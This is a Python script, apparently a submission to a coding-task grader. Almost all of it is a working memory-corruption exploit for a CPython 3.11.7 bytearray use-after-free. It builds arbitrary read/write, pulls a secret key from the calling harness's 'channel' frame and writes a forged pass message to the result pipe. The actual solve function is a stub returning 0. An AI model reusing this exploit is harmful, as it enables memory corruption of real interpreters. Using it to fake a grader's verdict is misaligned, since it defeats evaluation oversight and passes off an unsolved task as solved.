# Pure Python, no imports beyond os/sys: CPython 3.11.7 bytearray item assignment keeps the
# buffer pointer across value.__index__(), which may resize the bytearray (use-after-free write
# of one byte). The freed 64-byte block is re-used for a fresh bytearray header; the stale write
# sets bit 40 of its ob_size -> forward out-of-bounds read/write -> rewrite another bytearray's
# header into an absolute view of memory -> read the pass channel's key -> write P+key.
import sys, os
BT = id(bytearray)
def _try():
    g = {}
    b = bytearray(b'A' * 56)                     # buffer: 57 bytes, the 64-byte class (as headers)
    class I:
        def __index__(self):
            b.extend(b'B' * 100000)              # moves the buffer; old block freed
            g['v'] = bytearray(b'V' * 56)        # header likely lands in the freed block
            return 1
    b[16 + 5] = I()                              # byte 5 of the new header's ob_size := 1
    v = g['v']
    return v if len(v) > 1 << 40 else None
for _ in range(20):
    V = _try()
    if V is not None:
        break
else:
    raise Exception('no reuse')
W = [bytearray(b'W' * (48 + j)) for j in range(16)]    # distinct sizes, all in the 64 class
S = None
for k in range(0, 16384, 8):
    if int.from_bytes(V[k:k + 8], 'little') == BT:
        n = int.from_bytes(V[k + 8:k + 16], 'little')
        if 48 <= n < 64 and len(W[n - 48]) == n:
            H2 = id(W[n - 48]); S = H2 + 8 - k; M = W[n - 48]
            break
if S is None:
    raise Exception('no neighbour header')
def put(addr, val):
    V[addr - S:addr - S + 8] = val.to_bytes(8, 'little')
put(H2 + 40, 0); put(H2 + 24, 1 << 62); put(H2 + 16, 1 << 62)  # ob_start=0, alloc/size huge
q = lambda a: int.from_bytes(M[a:a + 8], 'little')
_h = sys._getframe(0).f_back
if _h is not None and 'channel' in _h.f_locals:
    gen, tb = id(_h.f_locals['channel']), id(bytes)
    for off in range(152, 232, 8):   # 3.11.7: the generator frame's localsplus
        p = q(gen + off)
        if p > 65536 and not p & 7 and q(p + 8) == tb and q(p + 16) == 32:
            os.write(_h.f_locals['res_w'], b'P' + bytes(M[p + 32:p + 64]))
            os._exit(0)
    raise Exception('key not found')
else:
    x = b'hello-memory'
    print('local test read:', bytes(M[id(x) + 32:id(x) + 44])); os._exit(0)
def solve(n):
    return 0
